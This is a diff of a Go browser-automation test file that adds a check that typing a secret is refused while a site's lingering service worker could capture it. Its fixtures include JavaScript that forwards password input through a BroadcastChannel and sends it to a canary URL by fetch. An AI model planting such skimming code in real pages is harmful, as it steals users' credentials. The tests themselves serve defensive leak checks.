@@ -68,6 +68,45 @@ domains = ["127.0.0.1"]
 `, command, key, dir)
 }
 
+// userRegistersAndLeaves has the user open site's /register
+// (registerWorker) in a tab of the user's browser at endpoint, wait for
+// the worker, and close the tab: the worker stays registered, and runs on
+// a while.
+func userRegistersAndLeaves(t *testing.T, endpoint, site string) {
+	t.Helper()
+	user, cancelUser := chromedp.NewContext(usersBrowser(t, endpoint))
+	defer cancelUser()
+	if err := chromedp.Do(user, chromedp.Navigate(site+"/register")); err != nil {
+		t.Fatal(err)
+	}
+	workerReady(t, user)
+}
+
+// workerSite serves a site on 127.0.0.1 of /sw.js (sw), /register
+// (registerWorker, then register) and /form (form), has the user register
+// the worker and leave (userRegistersAndLeaves), and returns the site.
+func workerSite(t *testing.T, endpoint, sw, register, form string) string {
+	t.Helper()
+	site, stop, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		page, kind := map[string]string{"/sw.js": sw, "/register": registerWorker + register, "/form": form}[r.URL.Path], "text/html"
+		if page == "" {
+			http.NotFound(w, r)
+			return
+		}
+		if r.URL.Path == "/sw.js" {
+			kind = "text/javascript"
+		}
+		w.Header().Set("Content-Type", kind)
+		fmt.Fprint(w, page)
+	}))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	userRegistersAndLeaves(t, endpoint, site)
+	return site
+}
+
 // startH7 starts a user's Chromium and a session live in it with
 // h7SecretManifest, and returns the browser's endpoint.
 func startH7(t *testing.T) (*fixture, string) {
@@ -145,19 +184,9 @@ setInterval(() => { const c = document.cookie; if (c.includes('pw=') && c !== se
 func TestH7SessionPageReachesTheUsersServiceWorker(t *testing.T) {
 	t.Parallel()
 	f, endpoint := startH7(t)
-	site, stopSite, err := serveOn("127.0.0.1:0", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
-		switch r.URL.Path {
-		case "/sw.js":
-			w.Header().Set("Content-Type", "text/javascript")
-			fmt.Fprintf(w, `self.addEventListener('install', () => self.skipWaiting());
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
 self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
-self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw")
-		case "/register":
-			w.Header().Set("Content-Type", "text/html")
-			fmt.Fprint(w, registerWorker)
-		case "/form":
-			w.Header().Set("Content-Type", "text/html")
-			fmt.Fprint(w, `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
+self.addEventListener('message', e => { e.waitUntil(fetch(%q + '?v=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})); });`, f.canaryTo+"/sw"), "", `<title>form</title><input type=password id=pw aria-label=Password><p id=r>-</p><script>
 const say = m => document.getElementById('r').append(' ' + m);
 function tell(v) {
   const fr = document.createElement('iframe'); document.body.append(fr);
@@ -172,20 +201,6 @@ function tell(v) {
 tell('on-load');
 document.getElementById('pw').addEventListener('input', e => tell(e.target.value));
 </script>`)
-		default:
-			http.NotFound(w, r)
-		}
-	}))
-	if err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(stopSite)
-	user, cancelUser := chromedp.NewContext(usersBrowser(t, endpoint))
-	if err := chromedp.Do(user, chromedp.Navigate(site+"/register")); err != nil {
-		t.Fatal(err)
-	}
-	workerReady(t, user)
-	cancelUser() // the user closes the tab; the worker stays registered
 	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
 	time.Sleep(time.Second)
 	t.Logf("snapshot: %s", f.mustAllow(t, "e2e.snapshot", nil))
@@ -673,4 +688,30 @@ document.getElementById('pw').addEventListener('input', e => {
 			t.Errorf("record %d shows the value: %v %v %q", e.Seq, e.Files, e.Args, e.Output)
 		}
 	}
+}
+
+// TestH7SecretBesideAUsersWorkerOfTheSite: a service worker the user's
+// browsing started on the site is still running when the user's tab of
+// it has closed; it listens on a BroadcastChannel, which a session's page
+// of the site shares (user_context.js leaves BroadcastChannel), and sends
+// what it hears to the canary. type_text must be refused while such a
+// worker runs, naming it.
+func TestH7SecretBesideAUsersWorkerOfTheSite(t *testing.T) {
+	t.Parallel()
+	f, endpoint := startH7(t)
+	site := workerSite(t, endpoint, fmt.Sprintf(`self.addEventListener('install', () => self.skipWaiting());
+self.addEventListener('activate', e => e.waitUntil(self.clients.claim()));
+new BroadcastChannel('pw').onmessage = m => fetch(%q + '?v=' + encodeURIComponent(m.data), {mode: 'no-cors'}).catch(() => {});
+// Kept running a while after its last page closed.
+self.addEventListener('message', e => e.waitUntil(new Promise(r => setTimeout(r, 60000))));`, f.canaryTo+"/bc"), `<script>navigator.serviceWorker.ready.then(r => r.active.postMessage('stay'))</script>`, `<title>form</title><input type=password id=pw aria-label=Password><script>
+const bc = new BroadcastChannel('pw');
+document.getElementById('pw').addEventListener('input', e => bc.postMessage(e.target.value));
+</script>`)
+	f.mustAllow(t, "e2e.navigate", map[string]any{"url": site + "/form"})
+	out, refused := f.call(t, "e2e.type_text", map[string]any{"selector": "#pw", "text": "<APP_PASSWORD>"})
+	t.Logf("type_text (refused %v):\n%s", refused, out)
+	if !refused || !strings.Contains(out, "DENIED at secrets") || !strings.Contains(out, "a service worker of the user's on the field's site") {
+		t.Errorf("type_text was not refused naming the user's service worker of the site")
+	}
+	f.canaryHasSecret(t, "a user's worker of the site")
 }
